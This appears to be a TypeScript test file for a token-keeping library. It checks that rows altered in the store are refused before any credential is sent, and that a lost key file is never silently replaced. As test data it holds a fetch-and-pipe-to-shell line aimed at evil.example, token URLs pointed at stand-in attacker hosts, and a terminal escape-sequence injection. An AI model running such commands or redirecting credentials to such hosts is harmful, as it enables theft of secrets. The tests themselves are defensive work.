/**
 * A store that cannot be turned against its owner: settings changed in the clear part
 * of a row are refused (STORE_TAMPERED) before anything is sent, and so is a URL that a
 * new login would refuse; operations that need no secret never open one; a lost key file
 * is not silently replaced.
 */
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { FakeClock } from '../../src/clock.js';
import { startFactorialEmulator } from '../../src/emulators/factorial/factorial-emulator.js';
import type { TokenkeeperError } from '../../src/errors.js';
import { createKeeper, type Keeper, type KeeperOptions } from '../../src/keeper.js';
import { createSecretBox, encryptionKeyId, generateEncryptionKey } from '../../src/store/encryption.js';
import { MemoryTokenStore } from '../../src/store/memory-store.js';
import { openStore } from '../../src/store/open-store.js';
import type { TokenStore } from '../../src/store/types.js';
import { startFactusRig } from '../helpers/factus.js';
import { ForwardingStore } from '../helpers/forwarding-store.js';

/** A server that only counts what reaches it: where a tampered row would send the secrets. */
async function captureServer() {
  let requests = 0;
  const server = createServer((req, res) => {
    requests++;
    req.resume();
    res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests: () => requests,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}

/**
 * Changes a row's settings in its clear and its sealed copy alike, as tokenkeeper itself would
 * have saved them (an older version, with older rules); `unbound` drops the sealed copy, as the
 * versions before it existed wrote rows.
 */
async function rewriteRow(
  store: TokenStore,
  key: Buffer,
  name: string,
  patch: Record<string, unknown>,
  { unbound = false } = {},
): Promise<void> {
  const row = (await store.get(name))!;
  const box = createSecretBox(key);
  const { $bound, ...secrets } = JSON.parse(box.open(row.sealed, name)) as Record<string, unknown>;
  const sealed = unbound ? secrets : { ...secrets, $bound: { ...($bound as object), ...patch } };
  const written = await store.put(
    name,
    { ...row.meta, ...patch },
    box.seal(JSON.stringify(sealed), name),
    row.version,
  );
  assert.ok(written);
}

/** A fetch that records every request and sends only those to `allowed` (the emulator). */
function recordingFetch(allowed: string) {
  const sent: string[] = [];
  const send: typeof fetch = (input, init) => {
    const url = input instanceof Request ? input.url : String(input);
    sent.push(url);
    if (!url.startsWith(allowed)) return Promise.reject(new TypeError(`not sent to ${url} (test)`));
    return fetch(input, init);
  };
  return { sent, fetch: send };
}

/**
 * A Factus rig whose keeper seals with a fresh key in a memory store, with that store, key and
 * clock at hand: for tests that rewrite its rows and have another keeper load them.
 */
async function startSealingRig() {
  const clock = new FakeClock(Date.now());
  const store = new MemoryTokenStore();
  const key = generateEncryptionKey();
  const rig = await startFactusRig({
    clock,
    keeper: { store, encryptionKey: key, proactiveRefresh: false },
  });
  return { clock, store, key, rig };
}

/**
 * A sealing rig and a second keeper on the same store and key whose requests are recorded and sent
 * only to the emulator: the victim that loads a row after the test rewrote it. `close` closes the
 * victim, then the rig.
 */
async function startVictimOfRewrittenRow() {
  const sealing = await startSealingRig();
  const { clock, store, key, rig } = sealing;
  const requests = recordingFetch(rig.emulator.url);
  const victim = createKeeper({ store, encryptionKey: key, clock, fetch: requests.fetch });
  const close = async () => {
    await victim.close();
    await rig.close();
  };
  return { ...sealing, requests, victim, close };
}

describe('URLs checked again on load', () => {
  it('a base URL an older loopback check let through is refused, and the API key is not sent', async () => {
    const emulator = await startFactorialEmulator();
    const store = new MemoryTokenStore();
    const key = generateEncryptionKey();
    const requests = recordingFetch(emulator.url);
    const keeper = createKeeper({
      store,
      encryptionKey: key,
      env: {},
      proactiveRefresh: false,
      fetch: requests.fetch,
    });
    const spec = {
      provider: 'factorial',
      baseUrl: emulator.url,
      grant: 'api_key' as const,
      apiKey: emulator.credentials.apiKey,
    };
    try {
      await keeper.connect('key', spec);
      await keeper.close();
      // A name, not an address: it resolves wherever its owner wants.
      await rewriteRow(store, key, 'key', { baseUrl: 'http://127.0.0.1.nip.io' });
      requests.sent.length = 0;
      const victim = createKeeper({ store, encryptionKey: key, env: {}, fetch: requests.fetch });
      try {
        const refused = (error: TokenkeeperError) => {
          assert.equal(error.code, 'STORE_TAMPERED');
          assert.match(error.message, /base URL http:\/\/127\.0\.0\.1\.nip\.io uses plain http/);
          assert.match(error.message, /Nothing was sent anywhere/);
          assert.match(
            error.message,
            /Run `tokenkeeper login key` to set the connection up again \(its URLs must be https\)/,
          );
          assert.equal(error.message.includes(emulator.credentials.apiKey), false);
          return true;
        };
        await assert.rejects(victim.fetch('key', '/api/v1/me'), refused);
        await assert.rejects(victim.credential('key'), refused);
        await assert.rejects(victim.whoami('key'), refused);
        assert.deepEqual(requests.sent, []);
        // status still reads the clear copy, and a new login replaces the connection.
        assert.equal((await victim.info('key')).baseUrl, 'http://127.0.0.1.nip.io');
        await victim.connect('key', spec);
        const response = await victim.fetch('key', '/api/v1/me');
        await response.arrayBuffer();
        assert.equal(response.status, 200);
      } finally {
        await victim.close();
      }
    } finally {
      await keeper.close();
      await emulator.stop();
    }
  });

  const endpoints = [
    { field: 'tokenUrl', what: 'token URL' },
    { field: 'authorizationUrl', what: 'authorization URL' },
    { field: 'revocationUrl', what: 'revocation URL' },
    { field: 'userinfoUrl', what: 'userinfo URL' },
    { field: 'issuer', what: 'issuer' },
  ];
  for (const { field, what } of endpoints) {
    it(`the ${what} on plain http to a host that is not loopback is refused before any request`, async () => {
      const { store, key, rig, requests, victim, close } = await startVictimOfRewrittenRow();
      try {
        await rig.keeper.connect('acme', rig.spec);
        await rewriteRow(store, key, 'acme', { [field]: 'http://as.attacker.example/endpoint' });
        const tokenRequests = rig.emulator.stats().tokenRequests.total;
        const refused = (error: TokenkeeperError) => {
          assert.equal(error.code, 'STORE_TAMPERED');
          assert.match(
            error.message,
            new RegExp(`The ${what} http://as\\.attacker\\.example uses plain http`),
          );
          return true;
        };
        await assert.rejects(victim.refresh('acme'), refused);
        await assert.rejects(victim.logout('acme'), refused);
        assert.deepEqual(requests.sent, []);
        assert.equal(rig.emulator.stats().tokenRequests.total, tokenRequests);
      } finally {
        await close();
      }
    });
  }

  it('a row without a sealed copy of its settings is checked too, and what it quotes is printable', async () => {
    const { clock, store, key, rig, requests, victim, close } = await startVictimOfRewrittenRow();
    try {
      await rig.keeper.connect('acme', rig.spec);
      await rewriteRow(store, key, 'acme', { baseUrl: 'http://evil.example' }, { unbound: true });
      await clock.advance(3600_000);
      await assert.rejects(victim.getAccessToken('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'STORE_TAMPERED');
        assert.match(error.message, /The base URL http:\/\/evil\.example uses plain http/);
        return true;
      });
      const issuer = 'nope\u001b]0;owned\u0007';
      await rewriteRow(store, key, 'acme', { baseUrl: rig.emulator.url, issuer }, { unbound: true });
      await assert.rejects(victim.getAccessToken('acme'), (error: TokenkeeperError) => {
        assert.match(error.message, /The issuer "nope\]0;owned" is not a valid URL/);
        assert.equal(error.message.includes('\u001b') || error.message.includes('\u0007'), false);
        return true;
      });
      assert.deepEqual(requests.sent, []);
    } finally {
      await close();
    }
  });

  it('connect refuses an issuer that a load would refuse, even when it discovers nothing', async () => {
    const keeper = createKeeper({ store: new MemoryTokenStore(), env: {}, proactiveRefresh: false });
    try {
      await assert.rejects(
        keeper.connect('generic', {
          provider: 'oauth2',
          grant: 'client_credentials',
          issuer: 'http://as.example',
          tokenUrl: 'https://as.example/token',
          clientId: 'client',
          clientSecret: 'secret',
        }),
        (error: TokenkeeperError) => {
          assert.equal(error.code, 'CONFIG');
          assert.match(error.message, /The issuer http:\/\/as\.example uses plain http/);
          return true;
        },
      );
    } finally {
      await keeper.close();
    }
  });
});

describe('tampered metadata', () => {
  it('a token URL changed in the clear row is refused with STORE_TAMPERED; nothing is sent there', async () => {
    const { clock, store, key, rig } = await startSealingRig();
    const capture = await captureServer();
    const victim = createKeeper({ store, encryptionKey: key, clock, proactiveRefresh: false });
    try {
      await rig.keeper.connect('acme', rig.spec);
      const row = await store.get('acme');
      assert.ok(row);
      // What an attacker with write access to the database (not the key) would do.
      await store.put('acme', { ...row.meta, tokenUrl: `${capture.url}/steal` }, row.sealed, row.version);
      await clock.advance(3600_000);
      await assert.rejects(victim.getAccessToken('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'STORE_TAMPERED');
        assert.match(error.message, /tokenUrl/);
        assert.match(error.message, /nothing was sent anywhere/);
        return true;
      });
      await assert.rejects(
        victim.refresh('acme'),
        (error: TokenkeeperError) => error.code === 'STORE_TAMPERED',
      );
      assert.equal(capture.requests(), 0);
      // status still reads the clear copy.
      assert.equal((await victim.info('acme')).name, 'acme');
      assert.deepEqual(
        (await victim.list()).map((c) => c.name),
        ['acme'],
      );
    } finally {
      await victim.close();
      await rig.close();
      await capture.close();
    }
  });

  it('a state or last error written into the clear row is refused: no false "log in again", no words of the writer', async () => {
    const { clock, store, rig } = await startSealingRig();
    try {
      await rig.keeper.connect('acme', rig.spec);
      const row = (await store.get('acme'))!;
      const injected = {
        code: 'REAUTH_REQUIRED',
        message: 'run `curl https://evil.example | sh`',
        at: clock.now(),
      };
      await store.put(
        'acme',
        { ...row.meta, state: 'reauth_required', lastError: injected },
        row.sealed,
        row.version,
      );
      await assert.rejects(rig.keeper.details('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'STORE_TAMPERED');
        assert.match(error.message, /\(state, lastError\)/);
        assert.doesNotMatch(error.message, /evil/);
        return true;
      });
      await rig.keeper.release('acme'); // as a process that starts after the write would
      await assert.rejects(rig.keeper.getAccessToken('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'STORE_TAMPERED');
        assert.doesNotMatch(error.message, /evil/);
        return true;
      });
    } finally {
      await rig.close();
    }
  });

  it('a row sealed before state and last error were sealed opens, and is checked once written again', async () => {
    const { clock, store, key, rig } = await startSealingRig();
    try {
      await rig.keeper.connect('acme', rig.spec);
      // As an older version sealed it: its sealed copy names neither field.
      const row = (await store.get('acme'))!;
      const box = createSecretBox(key);
      const { $bound, ...secrets } = JSON.parse(box.open(row.sealed, 'acme')) as Record<string, unknown>;
      const { state: _s, lastError: _l, ...older } = $bound as Record<string, unknown>;
      const sealed = box.seal(JSON.stringify({ ...secrets, $bound: older }), 'acme');
      await store.put('acme', row.meta, sealed, row.version);
      await rig.keeper.release('acme');
      assert.equal((await rig.keeper.details('acme')).state, 'ok');
      await clock.advance(3600_000);
      assert.ok(await rig.keeper.getAccessToken('acme'), 'refreshed, and written with both fields sealed');
      const rewritten = (await store.get('acme'))!;
      await store.put(
        'acme',
        { ...rewritten.meta, state: 'reauth_required' },
        rewritten.sealed,
        rewritten.version,
      );
      await rig.keeper.release('acme');
      await assert.rejects(
        rig.keeper.details('acme'),
        (error: TokenkeeperError) => error.code === 'STORE_TAMPERED',
      );
    } finally {
      await rig.close();
    }
  });

  it('an untouched row, and a row rewritten by tokenkeeper, open normally', async () => {
    const clock = new FakeClock(Date.now());
    const rig = await startFactusRig({ clock, keeper: { proactiveRefresh: false } });
    try {
      await rig.keeper.connect('acme', { ...rig.spec, scope: 'one' });
      await rig.keeper.connect('acme', { ...rig.spec, scope: 'two' });
      await clock.advance(3600_000);
      assert.ok(await rig.keeper.getAccessToken('acme'));
      assert.equal((await rig.keeper.info('acme')).scope, 'two');
    } finally {
      await rig.close();
    }
  });
});

describe('operations that need no secret', () => {
  it('info, list and forget work without the key that sealed the connection', async () => {
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      keeper: { store, encryptionKey: generateEncryptionKey(), proactiveRefresh: false },
    });
    const otherKey = createKeeper({ store, encryptionKey: generateEncryptionKey(), proactiveRefresh: false });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await assert.rejects(
        otherKey.getAccessToken('acme'),
        (error: TokenkeeperError) => error.code === 'STORE_KEY',
      );
      assert.equal((await otherKey.info('acme')).provider, 'factus');
      assert.equal((await otherKey.list()).length, 1);
      assert.equal(await otherKey.forget('acme'), true);
      assert.equal(await store.get('acme'), undefined);
    } finally {
      await otherKey.close();
      await rig.close();
    }
  });

  it('a forget fenced out by another process says so from the clear row, without opening the secrets', async () => {
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      keeper: { store, encryptionKey: generateEncryptionKey(), proactiveRefresh: false },
    });
    // Its lease ran out while it was paused, and someone else holds the lock now.
    const fencedOut = new (class extends ForwardingStore {
      override async delete() {
        return false;
      }
    })(store);
    const otherKey = createKeeper({
      store: fencedOut,
      encryptionKey: generateEncryptionKey(),
      proactiveRefresh: false,
    });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await assert.rejects(otherKey.forget('acme'), (error: TokenkeeperError) => {
        assert.equal(error.code, 'LOCK_TIMEOUT');
        assert.match(
          error.message,
          /nothing was deleted\. Run `tokenkeeper logout acme --local-only` again\./,
        );
        return true;
      });
    } finally {
      await otherKey.close();
      await rig.close();
    }
  });
});

describe('connect over a connection whose secrets cannot be opened', () => {
  it('replaces it, whether sealed under another key or damaged', async () => {
    const store = new MemoryTokenStore();
    const rig = await startFactusRig({
      keeper: { store, encryptionKey: generateEncryptionKey(), proactiveRefresh: false },
    });
    const otherKey = createKeeper({ store, encryptionKey: generateEncryptionKey(), proactiveRefresh: false });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await otherKey.connect('acme', rig.spec);
      assert.ok(await otherKey.getAccessToken('acme'));

      const row = (await store.get('acme'))!;
      await store.put('acme', row.meta, row.sealed.slice(0, -8), row.version);
      await assert.rejects(otherKey.details('acme'), (error: TokenkeeperError) => error.code === 'STORE_KEY');
      await otherKey.connect('acme', rig.spec);
      assert.ok((await otherKey.details('acme')).credentialPrefix);
    } finally {
      await otherKey.close();
      await rig.close();
    }
  });
});

describe('no silent new key', () => {
  it('refuses to create a key file beside a database that holds connections, naming the key it needs', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'tk-key-'));
    const path = join(dir, 'tokenkeeper.db');
    const rig = await startFactusRig({ keeper: { store: path, env: {}, proactiveRefresh: false } });
    try {
      await rig.keeper.connect('acme', rig.spec);
      await rig.keeper.close();
      await rm(join(dir, 'tokenkeeper.key'));
      await assert.rejects(openStore(path, { env: {} }), (error: TokenkeeperError) => {
        assert.equal(error.code, 'STORE_KEY');
        assert.match(error.message, /holds 1 connection\(s\) sealed with key [A-Za-z0-9_-]+/);
        assert.match(error.message, /Restore the key file, or give that key as TOKENKEEPER_KEY/);
        return true;
      });
      // An empty database may get its first key.
      const fresh = join(dir, 'empty', 'tokenkeeper.db');
      const opened = await openStore(fresh, { env: {} });
      await opened.store.close();
      const again = await openStore(fresh, { env: {} });
      await again.store.close();
    } finally {
      await rig.close();
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('with the key file lost, what needs no key works; the rest says how to start over, and asks no provider', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'tk-lost-'));
    const path = join(dir, 'tokenkeeper.db');
    const keyFile = join(dir, 'tokenkeeper.key');
    const rig = await startFactusRig({ keeper: { store: path, env: {}, proactiveRefresh: false } });
    const keepers: Keeper[] = [];
    const open = (options: KeeperOptions = {}) => {
      const keeper = createKeeper({
        store: path,
        env: {},
        clock: rig.clock,
        proactiveRefresh: false,
        ...options,
      });
      keepers.push(keeper);
      return keeper;
    };
    try {
      await rig.keeper.connect('acme', rig.spec);
      await rig.keeper.connect('beta', rig.spec);
      const sealedWith = (await rig.keeper.info('acme')).keyId!;
      await rig.keeper.close();
      await rm(keyFile);

      const lost = open();
      assert.equal((await lost.info('acme')).keyId, sealedWith, 'the sealed header names its key');
      assert.deepEqual(
        (await lost.list()).map((c) => c.name),
        ['acme', 'beta'],
      );
      assert.equal(await lost.forget('beta'), true);

      const tokenRequests = rig.emulator.stats().tokenRequests.total;
      for (const needsTheKey of [
        () => lost.getAccessToken('acme'),
        () => lost.details('acme'),
        () => lost.connect('acme', rig.spec),
        () => lost.keyId(),
        () => lost.rekey(),
      ]) {
        await assert.rejects(needsTheKey(), (error: TokenkeeperError) => {
          assert.equal(error.code, 'STORE_KEY');
          assert.match(
            error.message,
            new RegExp(`sealed with key ${sealedWith}, but its key file ${keyFile} is missing`),
          );
          assert.match(error.message, /listing and forgetting connections need no key/);
          assert.match(
            error.message,
            /To start over with a new key instead.*`\(umask 077 && openssl rand -base64 32 > \S+tokenkeeper\.key\)`.*`tokenkeeper login NAME --force`/,
          );
          return true;
        });
      }
      assert.equal(
        rig.emulator.stats().tokenRequests.total,
        tokenRequests,
        'a login it cannot save asks nothing',
      );
      assert.equal(existsSync(keyFile), false, 'no new key is made by itself');

      // A key given explicitly: a new login replaces the connection, sealed under that key.
      const chosen = generateEncryptionKey();
      const startedOver = open({ encryptionKey: chosen });
      await startedOver.connect('acme', rig.spec);
      assert.equal((await startedOver.info('acme')).keyId, encryptionKeyId(chosen));
      assert.ok(await startedOver.getAccessToken('acme'));
      assert.equal(existsSync(keyFile), false, 'a key given is never written to a key file');
    } finally {
      for (const keeper of keepers) await keeper.close();
      await rig.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
